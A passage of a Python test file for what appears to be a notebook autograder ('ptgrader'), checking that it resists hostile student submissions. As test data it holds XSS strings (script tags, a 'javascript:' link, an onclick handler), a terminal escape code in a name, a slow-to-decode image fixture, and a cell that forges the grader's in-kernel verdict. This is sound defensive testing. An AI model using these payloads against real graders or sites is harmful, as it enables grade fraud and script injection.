    1 px wide (under every other limit), cost a browser minutes of CPU. An image asks its pixels times its passes
    (a JPEG's scans, a progressive one's several), and a notebook's images together at most MAX_IMAGE_DECODING,
    kept in order: the round's pictures go, and of plain 4096 px pictures those that still fit stay."""
    from PIL import Image

    shown: list = []
    fixture = hostile.BROKEN / "slow_to_decode_images.py"
    exec(compile(fixture.read_text(encoding="utf-8"), str(fixture), "exec"), {"display": shown.append})  # noqa: S102
    slow = [base64.b64encode(picture._repr_jpeg_()[0]).decode() for picture in shown]
    plot, large = html_pages.encoded_image(640, 480), html_pages.encoded_image(4096, 4096)
    progressive = io.BytesIO()
    Image.new("RGB", (64, 64)).save(progressive, "JPEG", progressive=True)
    assert image_decoding("image/png", plot) == 640 * 480
    assert image_decoding("image/jpeg", html_pages.encoded_image(64, 64, "JPEG")) == 64 * 64  # one scan
    assert image_decoding("image/jpeg", base64.b64encode(progressive.getvalue()).decode()) > 3 * 64 * 64
    assert all(image_decoding("image/jpeg", picture) >= 100 * 4096 * 4096 for picture in slow)

    def cell(pictures: list[str], mime: str = "image/png", size: dict | None = None) -> nbformat.NotebookNode:
        return nbformat.v4.new_code_cell("show()", outputs=[
            nbformat.v4.new_output("display_data", data={mime: picture}, metadata={mime: size} if size else {})
            for picture in pictures])

    honest, later = cell([plot, plot]), cell([plot])
    nb = nbformat.v4.new_notebook(cells=[honest, cell(slow, "image/jpeg", {"width": 1, "height": 1}),
                                         cell([large] * 6), later])
    assert make_notebook_safe(nb) == 3 + 6 - 3
    asked = [decoding_asked(output) for each in nb.cells for output in each.outputs]
    assert sum(asked) <= MAX_IMAGE_DECODING and asked[:2] == [640 * 480] * 2
    assert asked[2:] == [0] * 3 + [4096 * 4096] * 3 + [0] * 3 + [640 * 480]  # what still fits after them is kept
    assert "pixels a browser decodes" in nb.cells[2].outputs[-1].data["text/plain"]


@pytest.mark.parametrize("template", ["classic", "lab"])
def test_the_feedback_page_escapes_student_html(tmp_path: Path, template: str) -> None:
    """The course configuration sanitises the feedback page's Markdown, outputs and raw cells (which an outside
    round filled with Bootstrap's classes and a score field's id), and keeps code's highlighting."""
    from nbconvert import HTMLExporter
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader(lab_tools.CONFIG_NAME, path=str(lab_tools.LABS)).load_config()
    assert config.HTMLExporter.sanitize_html is True
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("My answer <script>alert('markdown')</script>"),
        nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output("error", ename="E", evalue="<script>e</script>",
                                                                        traceback=["<script>alert('tb')</script>"])]),
        nbformat.v4.new_raw_cell('<div class="modal-backdrop in" id="test_flatten_heads">12 / 12</div>'
                                 '<a class="btn btn-primary" href="javascript:alert(1)" onclick="f()">Resubmit</a>'),
    ])
    html, _ = HTMLExporter(config=config, template_name=template).from_notebook_node(nb)
    assert "<script>alert(" not in html
    for steering in ('class="[^"]*modal-backdrop', 'id="test_flatten_heads"', 'class="[^"]*btn-primary',
                     'href="javascript:', 'onclick="f'):
        assert not re.search(steering, html), steering  # the page's own stylesheet and scripts name the classes
    assert "<div>12 / 12</div>" in html  # the raw cell's text is still shown
    assert re.search(r'<div class="highlight hl-[\w-]+"><pre>', html)  # code keeps its highlighting


def test_report_lists_submissions_to_review(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from ptgrader.execute import REPORT_NAME
    from ptgrader.report import main

    assert lab_tools.REPORT_NAME == REPORT_NAME
    assert main(["lab01", "--course", str(tmp_path)]) == 2
    assert "no grading reports for lab01" in capsys.readouterr().err
    students = {"alice": {}, "mallory": {"withheld": "uses get_ipython"}, "trudy": {"tampered": ["test_f"]},
                "zed": {"survivors": "kernel pid 7 did not die"},
                # Reports the listing trusts nothing of: another student's name with an escape code, a field of
                # the wrong type (round 6).
                "victor": {"student": "alice \x1b[2J"}, "wendy": {"tampered": 7}}
    for student, extra in students.items():
        folder = tmp_path / "autograded" / student / "lab01"
        folder.mkdir(parents=True)
        (folder / REPORT_NAME).write_text(json.dumps({"student": student, **extra}))
    (tmp_path / "autograded" / "yves" / "lab01").mkdir(parents=True)
    (tmp_path / "autograded" / "yves" / "lab01" / REPORT_NAME).write_text("[not the grader's")
    assert main(["lab01", "--course", str(tmp_path)]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "ok      alice",
        "REVIEW  mallory  grades withheld: uses get_ipython",
        "REVIEW  trudy  the grader's canaries found tampering in test_f",
        "ok      victor",
        "REVIEW  wendy  the report could not be read (TypeError)",
        "REVIEW  yves  the report could not be read (JSONDecodeError)",
        "REVIEW  zed  a kernel could not be ended: kernel pid 7 did not die",
        "7 submissions, 5 to review",
    ]


def test_grading_stops_with_a_clear_error_where_kernels_cannot_be_jailed(monkeypatch, tmp_path: Path) -> None:  # noqa: ANN001
    from ptgrader.execute import GuardedExecute, IsolationUnavailable

    monkeypatch.setattr(jail, "probe", lambda **_: "this Linux has no namespaces")
    monkeypatch.setattr(GuardedExecute, "_isolations", {})
    with pytest.raises(IsolationUnavailable, match="no namespaces.*Linux container described in book/instructors.md"):
        GuardedExecute()._isolation(str(tmp_path))
    assert GuardedExecute(isolation="none")._isolation(str(tmp_path)) is None


def test_the_reaper_reports_survivors_and_looks_once_per_round() -> None:
    looks = []

    def find() -> set[int]:
        looks.append(1)
        return {2**22 + 12345}  # no such process: it can never be killed, so it "survives"

    with pytest.raises(ProcessesSurvived, match="survived SIGKILL"):
        kill_until_gone(find, lambda: None, rounds=3)
    assert len(looks) == 4  # three rounds and the final look
    assert kill_until_gone(lambda: set(), lambda: None) == set()


# ------------------------------------------------------------------ outputs compared outside the kernel


def _nbgrader_cell(kind: str, source: str, grade_id: str, **extra: object) -> nbformat.NotebookNode:
    meta = {"grade": kind == "test", "grade_id": grade_id, "locked": kind != "solution", "schema_version": 3,
            "solution": kind == "solution", "task": False, **({"points": 1} if kind == "test" else {})}
    return nbformat.v4.new_code_cell(source, metadata={"nbgrader": meta}, **extra)


#: A notebook of its own (not a lab) whose test cell only computes the student's outputs and sends them out.
DEMO_SETUP = "import torch\nimport ptlabs\nimport ptchecks"
DEMO_SOLUTION = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"
DEMO_TEST = (
    "inputs = [torch.arange(6.0).reshape(2, 3), torch.tensor([[-1.5]]), torch.arange(4)]\n"
    "for index, x in enumerate(inputs):\n"
    "    ptchecks.emit(f'double, input {index}', double(x))\n"
    "### BEGIN HIDDEN TESTS\n"
    "ptchecks.emit('double, non-contiguous', double(torch.arange(12.0).reshape(3, 4).t()))\n"
    "ptchecks.canaries()\n"
    "### END HIDDEN TESTS"
)
#: Takes the in-kernel verdict over entirely: the test cell runs nothing, and its completion token is printed.
FORGER = (
    "class Forged:\n"
    "    def run(self, test_id):\n"
    "        pass\n"
    "    def complete(self, test_id, token, count):\n"
    "        print(f'ptlabs-grading: {test_id} complete {token}')\n"
    "get_ipython().user_ns_hidden['_ptgrader'] = Forged()"
)


@linux_only
def test_outputs_sent_out_of_the_kernel_are_graded_by_the_grader(tmp_path: Path) -> None:
    """The worked example of ptgrader.channel: the score is decided in the grader. A submission that forges the
    whole in-kernel verdict (its completion token is printed) still earns nothing: its outputs are not the
    reference solution's, compared outside the kernel. One whose code takes the grader longer to read than its
    budget is withheld, and so is one nested past Python's recursion limit; the others are graded. (Graded by ptgrader.autograde with two jobs.)"""
    course = tmp_path / "course"
    (course / "source" / "demo").mkdir(parents=True)
    (course / lab_tools.CONFIG_NAME).write_text((lab_tools.LABS / lab_tools.CONFIG_NAME).read_text())
    canaries = nbformat.v4.new_output("stream", name="stdout", text="✅ grader canaries: correct\n")
    source = nbformat.v4.new_notebook(cells=[
        _nbgrader_cell("setup", DEMO_SETUP, "setup"),
        _nbgrader_cell("solution", DEMO_SOLUTION, "double"),
        _nbgrader_cell("test", DEMO_TEST, "test_double", outputs=[canaries]),
    ])
    source.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(source, course / "source" / "demo" / "demo.ipynb")
    release = nbformat.read(lab_tools.generate_assignment(course, "demo") / "demo.ipynb", as_version=4)
    wrong = lab_tools.build_submission(release, {"double": "def double(x):\n    return x + x + 1"})
    forger = copy.deepcopy(wrong)
    forger.cells.insert(1, nbformat.v4.new_code_cell(FORGER))
    tangled = copy.deepcopy(forger)  # aliases the policy reads once per link: seconds of the grader's CPU
    tangled.cells.insert(1, nbformat.v4.new_code_cell("\n".join(f"a{i} = a{i + 1}" for i in range(300)) + "\na300 = torch"))
    deep = copy.deepcopy(wrong)  # round 53: past Python's recursion limit in the grader's reading
    deep.cells.insert(1, nbformat.v4.new_code_cell("if False:\n    y = x" + ".a" * 3500))
    submissions = {"solution": lab_tools.build_submission(release, {"double": "def double(x):\n    return x * 2"}),
                   "wrong": wrong, "forger": forger, "tangled": tangled, "deep": deep}
    for student, nb in submissions.items():
        lab_tools.submit(course, "demo", student, {"demo.ipynb": nb})
    # Graded by two graders side by side in the one course (python -m ptgrader.autograde), policy off for the forger.
    graders = subprocess.run([sys.executable, "-m", "ptgrader.autograde", "demo", "--jobs", "2",
                              "--GuardedExecute.enforce_code_policy=False",  # a small warm server: this needs torch only
                              "--GuardedExecute.preload=['torch', 'ipykernel.kernelapp']",
                              "--GuardedExecute.reading_budget=1"],
                             cwd=course, capture_output=True, text=True)
    assert graders.returncode == 0, graders.stdout[-3000:] + graders.stderr[-3000:]
    assert {line[:4] for line in graders.stdout.splitlines() if line.startswith("[")} == {"[1] ", "[2] "}
    scores = {student: cells["test_double"][0] for student, cells in lab_tools.read_scores(course, "demo").items()}
    reports = lab_tools.read_reports(course, "demo")
    run_profile.count_grading_kernels(reports.values())
    assert scores == {"solution": 1.0, "wrong": 0.0, "forger": 0.0, "tangled": 0.0, "deep": 0.0}
    assert reports["tangled"]["withheld"].startswith("reading the submission's code took over 1 s")
    assert reports["deep"]["withheld"].startswith("the submission's code nests deeper than the grader can read")
    assert "test_double" not in reports["forger"]["incomplete"]  # the in-kernel verdict was forged...
    assert reports["forger"]["outputs_differ"] == ["test_double"]  # ...and the grader's comparison refused it
    assert reports["solution"]["outputs_differ"] == [] and reports["wrong"]["outputs_differ"] == ["test_double"]
    graded = (course / "autograded" / "solution" / "demo" / "demo.ipynb").read_text()
    assert channel.MIME not in graded  # what was sent out never reaches the graded notebook


def test_outputs_cost_the_grader_little_and_stop_with_the_submissions_time() -> None:
    """A display of a million-entry JSON cost the grader 3.7 s, and outputs read after a cell's reply were not
    charged to the submission's time: fifteen such displays held the grader 328 s against a budget of 120."""
    from nbclient.exceptions import CellTimeoutError

    from ptgrader.execute import GuardedExecute
    from ptgrader.report import GradingReport

    client = GuardedExecute(isolation="none")
    client.nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("display(table)")])
    report = GradingReport("mallory", "lab", "lab.ipynb")
    client.reset_execution_trackers()
    client.clear_before_next_output = False  # as nbclient sets it before each cell
    client.start_receiving(report, {})
    client._deadline = time.monotonic() + 60
    message = {"msg_type": "display_data", "header": {"msg_type": "display_data"}, "parent_header": {},
               "content": {"data": {"application/json": [{}] * 1_000_000, "text/plain": "Table"}, "metadata": {}}}
    outs: list = []
    clock = time.process_time()
    client.output(outs, message, None, 0)
    assert time.process_time() - clock < 0.5
    assert [dict(out.data) for out in outs] == [{"text/plain": "Table"}] and report.unsafe_outputs == 1
    client._deadline = time.monotonic() - 10  # the submission's time is spent
    with pytest.raises(CellTimeoutError, match="time was spent"):
        client.output(outs, message, None, 0)
